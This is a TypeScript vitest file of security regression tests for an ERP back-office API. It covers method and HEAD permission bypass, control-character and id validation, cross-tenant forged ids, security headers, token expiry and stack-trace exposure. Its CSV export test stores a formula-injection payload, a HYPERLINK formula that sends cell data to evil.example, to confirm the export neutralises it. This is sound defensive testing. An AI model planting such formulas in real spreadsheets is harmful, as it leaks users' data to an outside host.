import { once } from 'node:events'
import net from 'node:net'
import { serve } from '@hono/node-server'
import ExcelJS from 'exceljs'
import { SignJWT } from 'jose'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { allCalls } from '../../app.ts'
import { openTestApp, type TestApp } from '../../testing/test-app.ts'
import { signInWithoutGrants } from '../../testing/test-users.ts'
import { type CallDef, methodsOf, permissionsOf } from './calls.ts'

// The findings of the security review (issue 7), one describe each; 4 and 5 live in server/auth/.
let t: TestApp
let admin: string
let nobody: string
let finance: string
beforeAll(async () => {
  t = await openTestApp({ BODY_LIMIT_BYTES: '65536' })
  admin = (await t.signIn()).access_token
  finance = (await t.signIn('000000', 'finance', 'Finance123')).access_token
  nobody = await signInWithoutGrants(t, 'nobody', 770001, 770002)
})
afterAll(() => t.close())

const calls = allCalls()
/** A concrete path for a route with parameters (`/:id` → `/1`). */
const concrete = (path: string) => path.replace(/:[A-Za-z]+/g, '1')

async function send(method: string, path: string, token?: string, body?: string) {
  const headers: Record<string, string> = { 'Accept-Language': 'en-US' }
  if (token) headers['Blade-Auth'] = `bearer ${token}`
  if (body !== undefined) headers['Content-Type'] = 'application/json'
  return t.app.request(path, { method, headers, body })
}

async function tenantCount() {
  return (await t.root.query<{ n: number }>('SELECT count(*)::int AS n FROM blade_tenant WHERE is_deleted = 0'))[0]?.n
}

describe('finding 1: permissions hold for every method the router answers, HEAD included', () => {
  it('declares the access of every mounted /api route: public, any signed-in user, or permission codes', () => {
    const routes = t.app.routes.filter((r) => r.path.startsWith('/api/') && r.method !== 'ALL')
    expect(routes.length).toBeGreaterThan(300)
    for (const route of routes) {
      const call = calls.find((c) => c.path === route.path && methodsOf(c).includes(route.method))
      expect(call, `${route.method} ${route.path} is mounted without a declared call`).toBeDefined()
      const access = (call as CallDef).access
      const declared =
        ('public' in access && access.public === true) ||
        ('signedIn' in access && access.signedIn === true) ||
        (permissionsOf(access).length > 0 && permissionsOf(access).every((p) => typeof p === 'string' && p !== ''))
      expect(declared, `${route.method} ${route.path}`).toBe(true)
    }
  })

  it('answers 403 or 405 to GET, HEAD, POST and OPTIONS of every guarded call for a user lacking its permission', async () => {
    const guarded = calls.filter((c) => permissionsOf(c.access).length > 0)
    expect(guarded.length).toBeGreaterThan(250)
    const wrong: string[] = []
    for (const call of guarded) {
      for (const method of ['GET', 'HEAD', 'POST', 'OPTIONS']) {
        const r = await send(method, concrete(call.path), nobody, method === 'POST' ? '{}' : undefined)
        if (r.status !== 403 && r.status !== 405) wrong.push(`${method} ${call.path} → ${r.status}`)
      }
    }
    expect(wrong).toEqual([])
  })

  it('never serves a call that may change data through HEAD, whoever asks', async () => {
    // A path whose GET is a read-only call (a split's form beside the split itself) serves HEAD through that GET.
    const readable = new Set(calls.filter((c) => c.readOnly).map((c) => c.path))
    const writes = calls.filter((c) => !c.readOnly && !readable.has(c.path))
    expect(writes.length).toBeGreaterThan(100)
    const before = await tenantCount()
    for (const call of writes) {
      const r = await send('HEAD', concrete(call.path), admin)
      expect(r.status, `HEAD ${call.path}`).toBe(405)
      expect(r.headers.get('allow'), call.path).not.toContain('HEAD')
    }
    expect(await tenantCount()).toBe(before)
  })

  it("refuses the finance clerk's HEAD tenant/remove of another tenant, which once deleted it", async () => {
    const other = await t.root.query<{ id: string }>(`SELECT id FROM blade_tenant WHERE tenant_id = '100001'`)
    const path = `/api/blade-system/tenant/remove?ids=${other[0]?.id}`
    for (const method of ['HEAD', 'GET', 'POST']) {
      const r = await send(method, path, finance, method === 'POST' ? '{}' : undefined)
      expect([403, 405], method).toContain(r.status)
    }
    const reset = await send('HEAD', '/api/blade-user/reset-password?userIds=770002', finance)
    expect(reset.status).toBe(405)
    const alive = await t.root.query(`SELECT 1 FROM blade_tenant WHERE tenant_id = '100001' AND is_deleted = 0`)
    expect(alive).toHaveLength(1)
  })

  it('serves HEAD of a read-only call to a user holding its permission, without a body', async () => {
    const r = await send('HEAD', '/api/erp/basebrand/page', admin)
    expect(r.status).toBe(200)
    expect(await r.text()).toBe('')
    expect((await send('HEAD', '/api/erp/basebrand/page', nobody)).status).toBe(403)
  })

  it('answers 405 with Allow to a method a known path does not take', async () => {
    const r = await send('OPTIONS', '/api/erp/basebrand/page', admin)
    expect(r.status).toBe(405)
    expect(r.headers.get('allow')).toBe('GET, HEAD, POST')
    expect(((await r.json()) as { msg: string }).msg).toContain('OPTIONS')
    expect((await send('DELETE', '/api/erp/basebrand/remove', admin)).status).toBe(405)
  })

  it('checks a permission on calls with path parameters', async () => {
    const picture = calls.find((c) => c.path.includes('/:'))
    expect(picture).toBeDefined()
    const r = await send('GET', concrete((picture as CallDef).path))
    expect(r.status).toBe(401)
  })
})

describe('finding 2: bad input is a 400 naming the field, never a fault', () => {
  it('refuses a null byte in any text filter', async () => {
    for (const path of ['/api/erp/marketplace/page', '/api/erp/basebrand/page', '/api/blade-system/dept/list']) {
      const r = await t.call('GET', path, { token: admin, query: { name: 'a\u0000b', brandName: 'x\u0000' } })
      expect(r.status, path).toBe(400)
      expect(r.json.data.errors[0].field).toMatch(/name|brandName/i)
    }
  })

  it('refuses a null byte, or another control character, in any body string', async () => {
    for (const [path, body] of [
      ['/api/erp/basebrand/save', { brandName: 'a\u0000b', brandCode: 'NUL1' }],
      ['/api/blade-system/dept/submit', { parentId: '0', deptName: 'x\u0007y', deptCategory: '1' }],
      ['/api/blade-user/update-info', { name: 'a\u0000' }],
    ] as const) {
      const r = await t.call('POST', path, { token: admin, body, lang: 'en-US' })
      expect(r.status, path).toBe(400)
      expect(r.json.msg, path).toContain('control characters')
    }
    const stored = await t.root.query(`SELECT 1 FROM erp_base_brand WHERE brand_code = 'NUL1'`)
    expect(stored).toHaveLength(0)
  })

  it('keeps tabs and line breaks in text', async () => {
    const r = await t.call('POST', '/api/erp/basebrand/save', {
      token: admin,
      body: { brandName: 'Tab\tand\nline', brandCode: 'TAB-OK' },
    })
    expect(r.status, r.text).toBe(200)
  })

  it('refuses non-numeric values on id and link filters with _equal, _in, _ge and _notequal', async () => {
    for (const [path, key] of <[string, string][]>[
      ['/api/erp/baseshop/list', 'platformId_equal'],
      ['/api/erp/baseshop/list', 'platformId_in'],
      ['/api/erp/baseproduct/page', 'categoryId_ge'],
      ['/api/erp/baseproduct/page', 'brandId_notequal'],
      ['/api/erp/basecategory/list', 'parentId_equal'],
      ['/api/erp/baseproduct/page', 'id_equal'],
    ]) {
      const r = await t.call('GET', path, { token: admin, query: { [key]: 'abc' } })
      expect(r.status, `${path}?${key}`).toBe(400)
      expect(r.json.data.errors[0].field).toBe(key)
    }
  })

  it('refuses malformed numbers, flags and dates in filters', async () => {
    const bad: Record<string, string>[] = [
      { status_equal: '99999999999' },
      { createTime_datege: '2026-02-31' },
      { createTime_datege: '2026-99-99' },
    ]
    for (const query of bad) {
      const r = await t.call('GET', '/api/erp/basebrand/page', { token: admin, query })
      expect(r.status, JSON.stringify(query)).toBe(400)
    }
  })

  it('refuses ids beyond 64 bits on detail, remove and submit', async () => {
    const big = '9999999999999999999'
    for (const path of ['/api/erp/baseproduct/detail', '/api/blade-user/detail', '/api/blade-system/tenant/detail']) {
      const r = await t.call('GET', path, { token: admin, query: { id: big } })
      expect(r.status, path).toBe(400)
    }
    expect((await t.call('POST', '/api/erp/baseproduct/remove', { token: admin, query: { ids: big } })).status).toBe(
      400,
    )
    for (const path of [
      '/api/blade-desk/notice/submit',
      '/api/blade-system/tenant/submit',
      '/api/blade-system/dept/submit',
    ]) {
      const r = await t.call('POST', path, { token: admin, body: { id: '99999999999999999999', title: 'x' } })
      expect(r.status, `${path}: ${r.text}`).toBe(400)
    }
  })

  it('answers an export with a bad filter with a 400 before the download starts', async () => {
    const queries: Record<string, string>[] = [
      { name: 'a\u0000b' },
      { categoryId_equal: 'abc' },
      { brandId_in: 'abc,1' },
    ]
    for (const query of queries) {
      const r = await t.call('GET', '/api/erp/baseproduct/export', { token: admin, query })
      expect(r.status, JSON.stringify(query)).toBe(400)
    }
  })
})

describe('finding 3: only the server mints ids; a submitted id names a live record of the tenant', () => {
  const N = '/api/blade-desk/notice'
  async function noticeIds() {
    return (await t.root.query<{ id: string }>('SELECT id FROM blade_notice ORDER BY id')).map((r) => r.id)
  }

  it('refuses an id that names nothing, the largest id, another tenant’s record and a removed one', async () => {
    const tenantAdmin = (await t.signIn('100001')).access_token
    const theirs = await t.call('POST', `${N}/save`, { token: tenantAdmin, body: { title: 'Theirs', category: 1 } })
    expect(theirs.status, theirs.text).toBe(200)
    const made = await t.call('POST', `${N}/save`, { token: admin, body: { title: 'Gone', category: 1 } })
    const gone = made.json.data.id as string
    await t.call('POST', `${N}/remove`, { token: admin, query: { ids: gone } })
    const before = await noticeIds()
    for (const id of ['1', '9223372036854775807', theirs.json.data.id as string, gone]) {
      const r = await t.call('POST', `${N}/submit`, {
        token: admin,
        body: { id, title: `Forged ${id}`, category: 1 },
        lang: 'en-US',
      })
      expect(r.status, `id ${id}: ${r.text}`).toBe(400)
      expect(r.json.data.errors[0].field).toBe('id')
    }
    expect(await noticeIds()).toEqual(before)
    const forged = await t.root.query(`SELECT 1 FROM blade_notice WHERE title LIKE 'Forged%'`)
    expect(forged).toHaveLength(0)
  })

  it('still updates a live record of the tenant by its id, and mints the id of a new one', async () => {
    const made = await t.call('POST', `${N}/submit`, { token: admin, body: { title: 'Minted', category: 1 } })
    expect(made.status, made.text).toBe(200)
    const id = made.json.data.id as string
    expect(id).toMatch(/^\d{16,19}$/)
    const changed = await t.call('POST', `${N}/submit`, {
      token: admin,
      body: { id, title: 'Minted again', version: made.json.data.version },
    })
    expect(changed.status, changed.text).toBe(200)
    expect(changed.json.data.title).toBe('Minted again')
  })

  it('refuses unknown ids on the hand-written submits too (dictionary, menu, client, tenant)', async () => {
    for (const path of [
      '/api/blade-system/dict/submit',
      '/api/blade-system/menu/submit',
      '/api/blade-system/client/submit',
      '/api/blade-system/tenant/submit',
    ]) {
      const r = await t.call('POST', path, { token: admin, body: { id: '1', code: 'forged', name: 'forged' } })
      expect(r.status, `${path}: ${r.text}`).toBe(400)
    }
  })
})

describe('finding 6: csv exports cannot carry live formulas', () => {
  it('neutralises cells starting with = + - @ tab or carriage return, and reads them back unchanged', async () => {
    const names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+SUM(1)', '-2+3', '@cmd', '\tTAB', '\rCR']
    for (const [i, brandName] of names.entries()) {
      const r = await t.call('POST', '/api/erp/basebrand/save', {
        token: admin,
        body: { brandName, brandCode: `CSV-INJ-${i}` },
      })
      expect(r.status, `${JSON.stringify(brandName)}: ${r.text}`).toBe(200)
    }
    const csv = await t.call('GET', '/api/erp/basebrand/export', {
      token: admin,
      query: { format: 'csv', brandCode: 'CSV-INJ' },
    })
    expect(csv.status).toBe(200)
    const text = csv.bytes.toString('utf8')
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`)
    for (const line of text.split('\r\n').slice(1)) {
      for (const cell of line.split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/)
    }
    // A plain negative number stays a number.
    const { csvCellText } = await import('../resources/spreadsheet.ts')
    expect(csvCellText('-12.50')).toBe('-12.50')
    expect(csvCellText(-3)).toBe('-3')
    // Importing the exported file gives back the names as they were.
    const workbook = new ExcelJS.Workbook()
    const sheet = await workbook.csv.read((await import('node:stream')).Readable.from(text.replace(/^\uFEFF/, '')))
    const { readSheet } = await import('../resources/spreadsheet.ts')
    const rows = await readSheet({ name: 'brands.csv', bytes: Buffer.from(text) })
    expect(sheet.rowCount).toBe(rows.length)
    const header = rows[0] ?? []
    const column = header.findIndex((h) => h === '品牌名称' || /brand/i.test(h))
    expect(rows.slice(1).map((r) => r[column])).toEqual(expect.arrayContaining(names.filter((n) => !/^[\t\r]/.test(n))))
  })
})

describe('finding 7: security headers, and a usable connection after a 413', () => {
  it('sends a content security policy and the other protective headers on the API', async () => {
    const r = await send('GET', '/api/erp/basebrand/page', admin)
    const csp = r.headers.get('content-security-policy') ?? ''
    expect(csp).toContain("default-src 'self'")
    expect(csp).toContain("frame-ancestors 'self'")
    expect(csp).toContain("object-src 'none'")
    expect(csp).not.toMatch(/script-src[^;]*unsafe-inline/)
    expect(r.headers.get('x-content-type-options')).toBe('nosniff')
    expect(r.headers.get('x-frame-options')).toBe('SAMEORIGIN')
    expect(r.headers.get('referrer-policy')).toBe('strict-origin-when-cross-origin')
    expect(r.headers.get('strict-transport-security')).toBeNull()
  })

  it('sends HSTS only when served over TLS', async () => {
    const r = await t.app.request('/api/openapi.json', { headers: { 'X-Forwarded-Proto': 'https' } })
    expect(r.headers.get('strict-transport-security')).toMatch(/max-age=\d+/)
    const direct = await t.app.request('https://erp.example/api/openapi.json')
    expect(direct.headers.get('strict-transport-security')).toMatch(/max-age=\d+/)
  })

  it('gives the API reference page a nonce for its own script', async () => {
    const r = await t.app.request('/api/docs')
    const nonce = /'nonce-([^']+)'/.exec(r.headers.get('content-security-policy') ?? '')?.[1]
    expect(nonce).toBeTruthy()
    expect(await r.text()).toContain(`<script nonce="${nonce}">`)
  })

  it('closes the connection cleanly after a 413, telling the client so', async () => {
    const server = serve({ fetch: t.app.fetch, port: 0, hostname: '127.0.0.1' })
    await once(server, 'listening')
    const port = (server.address() as net.AddressInfo).port
    try {
      const socket = net.connect(port, '127.0.0.1')
      let answer = ''
      socket.on('data', (d) => {
        answer += d.toString()
      })
      const size = 1_000_000
      socket.write(
        `POST /api/blade-desk/notice/submit HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: ${size}\r\nConnection: keep-alive\r\n\r\n`,
      )
      socket.write(Buffer.alloc(size, 97))
      socket.on('error', () => {})
      await once(socket, 'close')
      expect(answer).toMatch(/^HTTP\/1\.1 413/)
      expect(answer.toLowerCase()).toContain('connection: close')
      expect(answer).toContain('"code":413')
      // A new connection works at once.
      const next = await fetch(`http://127.0.0.1:${port}/api/openapi.json`)
      expect(next.status).toBe(200)
    } finally {
      server.close()
    }
  })
})

describe('finding 8: tokens must expire, and stack traces are for platform administrators', () => {
  it('refuses a correctly signed token without an exp claim', async () => {
    const session = await t.root.query<{ sid: string }>('SELECT sid FROM blade_session LIMIT 1')
    const token = await new SignJWT({ sid: session[0]?.sid, tid: '000000', rol: [], dep: [] })
      .setProtectedHeader({ alg: 'HS256', typ: 'JWT' })
      .setSubject('1')
      .setIssuer('erp-back-office')
      .setIssuedAt()
      .sign(t.signingKey)
    const r = await send('GET', '/api/blade-user/info', token)
    expect(r.status).toBe(401)
  })

  it('shows a tenant administrator the message and id of a fault, not its stack trace', async () => {
    const boom = 'stack-for-platform-only'
    for (const tenant of ['000000', '100001']) {
      await t.root.query(
        `INSERT INTO blade_log_error (id, tenant_id, source, request_id, exception_name, message, stack_trace, params)
         VALUES ((SELECT coalesce(max(id), 0) + 1 FROM blade_log_error), $1, 'server', 'req-1', 'Error', $2, $3, '?a=1')`,
        [tenant, boom, `Error: ${boom}\n    at secret (/srv/internals.ts:1:1)`],
      )
    }
    const tenantAdmin = (await t.signIn('100001')).access_token
    const theirs = await t.call('GET', '/api/blade-log/error/list', { token: tenantAdmin, query: { message: boom } })
    expect(theirs.status).toBe(200)
    const row = theirs.json.data.records[0]
    expect(row.message).toBe(boom)
    expect(row.id).toBeTruthy()
    expect(row.stackTrace).toBeNull()
    expect(row.params).toBeNull()
    const detail = await t.call('GET', '/api/blade-log/error/detail', { token: tenantAdmin, query: { id: row.id } })
    expect(detail.json.data.stackTrace).toBeNull()
    const platform = await t.call('GET', '/api/blade-log/error/list', { token: admin, query: { message: boom } })
    expect(platform.json.data.records[0].stackTrace).toContain('internals.ts')
  })
})
